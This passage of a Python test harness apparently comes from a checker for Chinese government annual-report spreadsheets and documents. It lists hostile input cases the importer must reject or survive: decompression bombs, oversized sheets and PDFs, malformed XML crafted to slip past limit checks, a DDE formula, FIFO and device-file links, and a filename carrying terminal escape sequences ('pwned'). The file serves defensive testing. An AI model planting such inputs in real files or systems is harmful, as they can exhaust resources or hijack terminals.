            rss[int(proc.name)] = int(fields.get("VmRSS", "0 kB").split()[0])
            own = int(fields.get("VmHWM", "0 kB").split()[0]) if int(proc.name) == pid else own
    total, todo = 0, [pid]
    while todo:
        current = todo.pop()
        total += rss.get(current, 0)
        todo += children.get(current, [])
    return total, own


class Measured(NamedTuple):
    run: subprocess.CompletedProcess
    seconds: float
    peak: int  # MiB, the whole process tree
    parent: int  # MiB, the command's own process (nianbao's parent, without its workers)


def run_measured(command: list[str], timeout: float = 3600) -> Measured:
    """Run ``command``: its result, seconds, the peak MiB of its whole process tree (the parent and
    its workers together, sampled every 0.1 s from /proc), and the parent's own peak."""
    import tempfile
    import threading
    import time

    with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
        start = time.monotonic()
        proc = subprocess.Popen(command, stdout=out, stderr=err, text=True)
        peak, parent, done = [0], [0], threading.Event()

        def sample() -> None:
            while not done.wait(0.1):
                tree, own = _tree_rss(proc.pid)
                peak[0], parent[0] = max(peak[0], tree), max(parent[0], own)

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        try:
            proc.wait(timeout=timeout)
        finally:
            done.set()
            sampler.join()
        seconds = time.monotonic() - start
        out.seek(0)
        err.seek(0)
        return Measured(subprocess.CompletedProcess(command, proc.returncode, out.read(), err.read()), seconds, peak[0] // 1024, parent[0] // 1024)


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[Path, Path], Path]
    reason: str | None = None  # the file fails with a reason containing this; None: it is checked
    rule: str | None = None  # a finding the checked file must have
    office: str | None = None  # the office the checked file must name
    partial: bool = False  # the checked file must have cells the importer could not read
    bomb: bool = False  # measured by benchmarks/hostile.py
    listed: str | None = None  # in a batch, the file is listed unchecked with a reason containing this
    copy: str | None = None  # the file is checked, its annotated copy refused with a reason containing this


CASES = [
    Case("version-abc", _meta("abc"), "模板版本"),
    Case("version-nan", _meta("nan"), "模板版本"),
    Case("version-1e999", _meta("1e999"), "模板版本"),
    Case("single-quoted-names", single_quoted_names),
    Case("merged-over-finding", merged_over_finding, rule="C001"),
    Case("digits-401", digits(401), rule="C013"),
    Case("digits-100000", digits(100_000), rule="C013"),
    Case("count-nan", float_cell("t3.new.natural", "NaN"), rule="C013"),
    Case("count-inf", float_cell("t3.new.natural", "INF"), rule="C013"),
    Case("count-1e300", float_cell("t3.new.natural", "1E+300"), rule="C013"),
    Case("year-nan", float_cell("meta.year", "NaN"), rule="C013"),
    Case("year-1e300", float_cell("meta.year", "1E+300"), rule="C013"),
    Case("cached-ref", cached_error, rule="C012"),
    Case("injected-count", injected_count, rule="C005"),
    Case("injected-office", injected_office, rule="C005"),
    Case("bad-crc", bad_crc, "文件已损坏"),
    Case("no-content-types", no_content_types, "文件已损坏"),
    Case("no-styles", no_styles),
    Case("truncated-sheet", truncated_sheet, "文件已损坏"),
    Case("truncated-file", truncated_file, "文件已损坏"),
    Case("bomb-sheet", _bomb("xl/worksheets/sheet1.xml"), "超出处理上限", bomb=True),
    Case("bomb-workbook", _bomb("xl/workbook.xml"), "超出处理上限", bomb=True),
    Case("bomb-shared-strings", _bomb("xl/sharedStrings.xml"), "超出处理上限", bomb=True),
    Case("bomb-lying-header", _bomb("xl/worksheets/sheet1.xml", declared=20_000), "超出处理上限", bomb=True),
    Case("bomb-docx", _bomb("word/document.xml", suffix="docx"), "超出处理上限", bomb=True),
    Case("million-rows", million_rows, "超出处理上限", bomb=True),
    Case("far-cell", far_cell_in(READ, "far-cell"), "超出处理上限", bomb=True),
    Case("sheets-10000", many_sheets(), "超出处理上限", bomb=True),
    Case("nested-html-1000", nested_html(1000), partial=True, bomb=True),  # checked: its tables are not found
    Case("nested-html-100000-open", nested_html(100_000, closed=False), partial=True, bomb=True),
    Case("text-100mb", huge_text, "超出处理上限", bomb=True),
    Case("html-million-cells", million_cells, "超出处理上限", bomb=True),
    Case("text-million-lines", million_lines, "超出处理上限", bomb=True),
    Case("big5-page", big5_page, office="臺北市萬華區公所"),
    Case("injected-report", injected_report),
    Case("report-5000-digits", report_digits, rule="C013"),
    Case("run-together-24-digits", run_together, partial=True, bomb=True),  # checked: no split fits, every row unread
    Case("encrypted-pdf", encrypted_pdf, "密码"),
    # Round three: limits measured as the parsers read, the verdict about what the workbook shows, names.
    Case("far-cell-quoted", far_cell_quoted, "超出处理上限", bomb=True),
    Case("far-cell-unread-sheet", far_cell_in("说明", "far-cell-unread"), copy="超出处理上限", bomb=True),
    Case("part-named-twice", part_named_twice, "两个同名的部件"),
    Case("word-sheetdata", the_word_sheetdata, office="示例县人民政府办公室"),
    Case("far-cell-prefixed", far_cell_as("prefixed", b'<x:c ' + _X + b' r="XFD1048576"><x:v>1</x:v></x:c>'), "超出处理上限"),
    Case("far-cell-cjk-prefix", far_cell_as("cjk-prefix", '<前缀:c r="XFD1048576"><v>1</v></前缀:c>'.encode()), "超出处理上限"),
    Case("far-cell-lower-case", far_cell_as("lower-case", b'<c r="xfd1048576"><v>1</v></c>'), "超出处理上限"),
    Case("far-cell-r-in-a-value", far_cell_as("r-in-a-value", b"""<c s=' r="A1"' r="XFD1048576"><v>1</v></c>"""), "超出处理上限"),
    Case("far-cell-r-twice", far_cell_as("r-twice", b'<c r="A1" r="XFD1048576"><v>1</v></c>'), "超出处理上限"),
    Case("far-cell-end-tag-space", far_cell_as("end-tag-space", b'<c r="XFD1048576"><v>1</v></c>', b"</sheetData >"), "超出处理上限"),
    Case("rows-without-r", rows_without_r(1_000_000), "超出处理上限", bomb=True),
    Case("cells-without-r", cells_without_r(300_000), "超出处理上限", bomb=True),
    Case("sheet-named-twice", sheet_named_twice, "两个名为“说明”的工作表", bomb=True),
    Case("sheet-behind-comment", sheet_behind_comment, "超出处理上限", bomb=True),
    Case("sheet-a-gt-b", sheet_named_gt),
    Case("hidden-copy", hidden_copy, rule="S001"),
    Case("dde-formula", dde_formula, rule="C007"),
    Case("spill-error", _cell_xml("spill.xlsx", '<c r="{a}" t="e"><f>_xlfn.SEQUENCE(3)</f><v>#SPILL!</v></c>'), rule="C012"),
    Case("name-not-utf8", named(b"\xb1\xa8\xb8\xe6-gbk")),  # 报告 in GBK, as an old zip tool unpacks it
    Case("name-long", named("长" * 82)),  # 251 bytes: its copy's name would pass 255
    Case("name-escape", named("esc\x1b[31m\x1b]0;pwned\x07")),
    Case("text-line-30mb", long_line("text-line.txt", "示例县2025年政府信息公开工作年度报告\n", "1 ", 30 << 20), "超出处理上限", bomb=True),
    Case("md-row-20mb", long_line("md-row.md", "# 示例县2025年政府信息公开工作年度报告\n\n", "| 1 ", 20 << 20, "|\n"), "超出处理上限", bomb=True),
    Case("tabs-10mb", long_line("tabs.txt", "示例县2025年政府信息公开工作年度报告\n", "\t", 10 << 20), "超出处理上限", bomb=True),
    Case("html-paragraph-10mb", long_line("html-paragraph.html", "<html><body><p>示例县2025年政府信息公开工作年度报告</p><p>", "字 ", 10 << 20,
                                           "</p></body></html>"), "超出处理上限", bomb=True),
    Case("html-attributes", html_attributes(1_000_000), "超出处理上限", bomb=True),
    Case("docx-grid-span", docx_grid_span, "超出处理上限", bomb=True),
    Case("pdf-stream-bomb", pdf_stream_bomb, "压缩炸弹", bomb=True),
    Case("pdf-pages", pdf_pages(200_000), "超出处理上限", bomb=True),
    Case("pdf-page-chars", pdf_page_chars, "第 1 页的内容过多", bomb=True),
    Case("pdf-form-drawn", pdf_form_drawn, "第 1 页的内容过多", bomb=True),
    Case("fifo", fifo, "管道（FIFO）"),
    Case("device-link", device_link, "设备文件"),
    Case("outside-link", outside_link, listed="输入文件夹以外"),  # named alone, it is checked
    *[Case(f"format{suffix}", other_format(suffix), why) for suffix, why in
      ((".et", "WPS 表格文件"), (".ett", "WPS 表格模板"), (".ods", "OpenDocument"), (".csv", "CSV"), (".xlsb", ".xlsb"),
       (".xltx", "模板文件"), (".doc", "旧版 Word"), (".wps", "WPS 文字"))],
    Case("merge-far", merge_far, bomb=True),
    Case("hyperlink-far", hyperlink_far, bomb=True),
    Case("comments-200000", many_comments(200_000), bomb=True, copy="批注"),
    Case("formats-500000", many_formats(500_000), bomb=True, copy="单元格格式"),
    Case("trailing-space", named("trailing", ".xlsx ")),
    Case("named-like-a-copy", named("某局.检查")),  # what an office returns after fixing its copy
    Case("named-like-the-summary", named("汇总")),
]
